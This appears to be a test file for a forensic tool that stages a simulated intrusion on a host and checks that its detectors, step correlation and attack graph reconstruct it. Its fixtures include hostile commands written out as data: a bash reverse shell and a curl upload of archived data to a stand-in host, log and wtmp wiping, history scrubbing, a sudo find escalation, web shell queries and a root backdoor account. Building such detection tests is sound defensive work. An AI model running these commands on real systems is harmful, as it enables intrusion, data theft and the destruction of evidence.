# SPDX-License-Identifier: Apache-2.0
"""One intrusion through all stages beside the ordinary week: each stage becomes a step, each step cites its findings."""

from __future__ import annotations

from memory_events import MemoryEvents, at
from test_ordinary_server import ordinary

from headwater.correlate.graph import attack_graph
from headwater.correlate.steps import correlate
from headwater.detect import registry
from headwater.model.kinds import SEVERITY_ORDER, EventKind, Severity, Stage
from headwater.model.nouns import Finding, Step
from headwater.model.ports import Settings
from headwater.reconstruct.hypotheses import weigh
from headwater.reconstruct.searches import standing_searches

K = EventKind
SECOND = 1_000_000_000
BAD, WEB, DROP = "203.0.113.66", "198.51.100.23", "198.51.100.99"
NIGHT = "2026-03-08 19:00:00"  # three in the morning of the ninth in Shanghai
HISTORY = f"""w; ip -br addr; cat /etc/hosts
for p in 22 80 443; do nc -zv -w1 10.20.0.8 $p; done
ssh -o NumberOfPasswordPrompts=2 dbadmin@10.20.0.8
bash -c 'bash -i >& /dev/tcp/{DROP}/4444 0>&1'
tar czf /var/tmp/.d.tgz -C /srv data
curl -s -T /var/tmp/.d.tgz http://{DROP}/up/web01.tgz
rm -f /var/log/auth.log.2.gz
dd if=/dev/zero of=/var/log/wtmp bs=384 seek=4 count=4 conv=notrunc
sed -i '/lp.sh/d' /home/deploy/.bash_history""".splitlines()


def _entry(events: MemoryEvents) -> None:
    start = at(NIGHT)
    named = {"src_ip": BAD, "method": "password", "host": "web01"}
    rows: list = [
        (K.AUTH_FAILURE, start + n * SECOND, {**named, "user": ("root", "deploy", "git")[n % 3]}) for n in range(90)
    ]
    rows.append((K.AUTH_SUCCESS, start + 120 * SECOND, {**named, "user": "deploy"}))
    sudo = {
        "user": "deploy",
        "process": "sudo",
        "command_line": "/usr/bin/find . -exec /bin/sh ; -quit",
        "host": "web01",
    }
    rows.append((K.PRIVILEGE_USE, start + 1800 * SECOND, sudo))
    own = {"target_user": "sysd0", "uid": 0, "shell": "/bin/bash"}
    rows.append((K.ACCOUNT_CREATE, start + 1900 * SECOND, {"process": "useradd", "host": "web01", "fields": own}))
    events.say("linux.auth", "p1!/var/log/auth.log", *rows)
    web = []
    for n, query in enumerate(["cmd=id", "cmd=uname%20-a", "cmd=%77%68%6f%61%6d%69", "cmd=mkdir+-p+/tmp/.x"]):
        own = {"cs-method": "GET", "cs-uri-stem": "/cmd.php", "cs-uri-query": query, "sc-status": 200}
        web.append((K.WEB_REQUEST, start + (900 + n) * SECOND, {"src_ip": WEB, "outcome": "success", "fields": own}))
    post = {"cs-method": "POST", "cs-uri-stem": "/uploads/img_thumb.php", "sc-status": 200}
    web.append((K.WEB_REQUEST, start + 1000 * SECOND, {"src_ip": WEB, "fields": post}))
    events.say("web.access", "p1!/var/log/nginx/access.log.1", *web)
    path = "/var/www/html/uploads/img_thumb.php"
    shell = {"trait": "eval-of-request", "match": "@eval($_POST", "parameter": "pass"}
    events.say("web.script", "p1!" + path, (K.STATE_CONTENT, None, {"file_path": path, "fields": shell}))
    ran = {"user": "www-data", "fields": {"CommandLine": "/bin/sh -c uname -a", "uid": 33}}
    events.say("linux.audit", "p1!/var/log/audit/audit.log.1", (K.PROCESS_CREATE, start + 901 * SECOND, ran))


def _stay(events: MemoryEvents) -> None:
    start = at(NIGHT) + 2400 * SECOND
    job = "/var/lib/.sysd/upd.sh >/dev/null 2>&1"
    cron = {"command_line": job, "user": "root", "fields": {"schedule": "*/10 * * * *"}}
    events.say("linux.crontab", "p1!/etc/cron.d/sysd-update", (K.STATE_SCHEDULE, None, cron))
    key = {"key_type": "ssh-ed25519", "key_fingerprint": "SHA256:b", "comment": "root@kali"}
    events.say(
        "linux.authorized_keys", "p1!/root/.ssh/authorized_keys", (K.STATE_KEY, None, {"user": "root", "fields": key})
    )
    typed = [
        (K.COMMAND_HISTORY, start + n * SECOND, {"user": "root", "command_line": c}) for n, c in enumerate(HISTORY)
    ]
    events.say("linux.history", "p1!/root/.bash_history", *typed)
    rows = []
    for path in ("/etc/cron.d/sysd-update", "/root/.ssh/authorized_keys"):
        rows.append((K.FILE_MODIFIED, start, {"file_path": path, "fields": {"size": 80, "uid": 0, "allocated": True}}))
    for n in range(160):
        path = f"/srv/data/{'abc'[n % 3]}/f{n}.{'csv' if n % 2 else 'txt'}.encrypted"
        own = {"size": 80, "uid": 0, "allocated": True}
        rows.append((K.FILE_CHANGED, start + n * SECOND // 5, {"file_path": path, "fields": own}))
    events.say("fs.macb", "p1", *rows)
    wtmp = "p1!/var/log/wtmp"
    events.offset = 10_000_000
    events.say(
        "linux.wtmp", wtmp, (K.SESSION_OPEN, "2026-03-01 01:30:00", {"user": "alice", "fields": {"line": "pts/0"}})
    )
    events.offset += 768
    events.say("linux.wtmp", wtmp, (K.SESSION_OPEN, NIGHT, {"user": "alice", "fields": {"line": "pts/0"}}))
    events.gap(wtmp, "linux.wtmp", 10_000_100, 768, "overwritten")


def _judged() -> tuple[MemoryEvents, list[Finding], list[Step]]:
    events = ordinary()
    _entry(events)
    _stay(events)
    findings = list(registry.run_all(events, Settings(zone="Asia/Shanghai")))
    return events, findings, correlate(findings)


def test_every_stage_becomes_a_step_that_cites_findings_of_weight() -> None:
    _, findings, steps = _judged()
    by_id = {f.id: f for f in findings}
    assert {s.stage for s in steps} == set(Stage)
    for step in steps:
        assert all(SEVERITY_ORDER[by_id[f].severity] >= SEVERITY_ORDER[Severity.MEDIUM] for f in step.findings)
        assert step.asset == "web01"
    first = steps[0]
    assert (first.stage, first.actor) == (Stage.LOGIN, BAD)
    exploit = next(s for s in steps if s.stage == Stage.EXPLOIT)
    assert exploit.actor == WEB
    rules = {f.rule.id for f in findings if SEVERITY_ORDER[f.severity] >= SEVERITY_ORDER[Severity.HIGH]}
    expected = {"ssh-guessing-success", "web-command", "web-shell", "sudo-abuse", "uid0-account", "persistence"}
    assert expected | {"cleaned-logs", "ransomware"} <= rules


def test_claims_are_stored_values_of_the_cited_rows() -> None:
    events, findings, _ = _judged()
    stored = {}
    for feed in events.feeds():
        for row in events.frames[feed].iter_rows(named=True):
            stored[(row["source"], row["path"], row["offset"], row["ordinal"])] = row
    for finding in findings:
        for cite in finding.spans:
            row = stored[(cite.span.evidence, cite.span.path, cite.span.offset, cite.ordinal)]
            assert {c: row[c] for c in cite.claims} == dict(cite.claims)
            assert cite.ts == row["ts"]
        if finding.tally is not None:
            assert finding.tally == events.tally(finding.tally.where)


def test_the_graph_and_the_explanations_rest_on_the_steps() -> None:
    events, findings, steps = _judged()
    graph = attack_graph(steps, findings)
    assert {"203.0.113.66", "198.51.100.23", "web01", "10.20.0.8"} <= {n.label for n in graph.nodes}
    searches = standing_searches(events, Settings(), [])
    verdicts = [h.verdict for h in weigh(findings, steps, searches)]
    assert verdicts[:2] == ["supported", "supported"]
    assert verdicts[3] == "open"
